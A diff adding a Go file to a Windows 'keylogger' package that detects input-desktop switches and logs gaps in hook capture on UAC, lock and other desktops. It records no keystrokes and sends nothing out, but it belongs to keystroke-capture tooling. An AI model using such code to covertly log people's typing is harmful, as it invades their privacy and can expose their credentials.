@@ -0,0 +1,83 @@
+package keylogger
+
+import (
+	"fmt"
+	"strings"
+	"sync/atomic"
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/windows"
+)
+
+var (
+	openInputDesktop          = user32.NewProc("OpenInputDesktop")
+	closeDesktop              = user32.NewProc("CloseDesktop")
+	getUserObjectInformationW = user32.NewProc("GetUserObjectInformationW")
+)
+
+/*
+	The desktop switch WinEvent, the access InputDesktop asks for and the
+	name of the object it asks about.
+	https://docs.microsoft.com/en-us/windows/win32/api/winuser/nf-winuser-openinputdesktop
+*/
+const (
+	EVENT_SYSTEM_DESKTOPSWITCH = 0x0020
+	DESKTOP_READOBJECTS        = 0x0001
+	UOI_NAME                   = 2
+)
+
+/*
+	InputDesktop returns the name of the desktop that receives user input,
+	"Default" for the one applications run on. It reports false when the
+	desktop cannot be opened, as the secure desktop of UAC prompts, the
+	Ctrl+Alt+Del screen and the lock screen (Winlogon) cannot be but by
+	SYSTEM.
+*/
+func InputDesktop() (string, bool) {
+	h, _, _ := openInputDesktop.Call(0, 0, DESKTOP_READOBJECTS)
+	if h == 0 {
+		return "", false
+	}
+	defer closeDesktop.Call(h)
+	var buf [64]uint16
+	var size uint32
+	ret, _, _ := getUserObjectInformationW.Call(h, UOI_NAME, uintptr(unsafe.Pointer(&buf[0])), unsafe.Sizeof(buf), uintptr(unsafe.Pointer(&size)))
+	if ret == 0 {
+		return "", false
+	}
+	return windows.UTF16ToString(buf[:]), true
+}
+
+func (l *Logger) desktopProc(hWinEventHook HANDLE, event DWORD, hwnd HWND, idObject int32, idChild int32, idEventThread DWORD, dwmsEventTime DWORD) uintptr {
+	if event == EVENT_SYSTEM_DESKTOPSWITCH && l.onCurrentThread() {
+		l.desktopSwitched(time.Now())
+	}
+	return 0
+}
+
+/*
+	Runs on the hook thread when input moves to another desktop. Low-level
+	hooks only see the input of the desktop their thread is on, so input
+	elsewhere is a gap in the capture, marked with DiagCaptureUnavailable
+	and DiagCaptureAvailable.
+*/
+func (l *Logger) desktopSwitched(t time.Time) {
+	name, ok := InputDesktop()
+	var away int32
+	if !ok || !strings.EqualFold(name, "Default") {
+		away = 1
+	}
+	if atomic.SwapInt32(&l.awayDesktop, away) == away {
+		return
+	}
+	d := DiagnosticEvent{Kind: DiagCaptureAvailable, Message: "input is back on the default desktop", Time: t}
+	switch {
+	case away == 0:
+	case !ok:
+		d.Kind, d.Message = DiagCaptureUnavailable, "input is on the secure desktop (a UAC prompt, Ctrl+Alt+Del or the lock screen), which the hooks cannot see"
+	default:
+		d.Kind, d.Message = DiagCaptureUnavailable, fmt.Sprintf("input is on desktop %q, which the hooks cannot see", name)
+	}
+	l.pushCurrent(&rawEvent{kind: rawDiagnostic, diag: d})
+}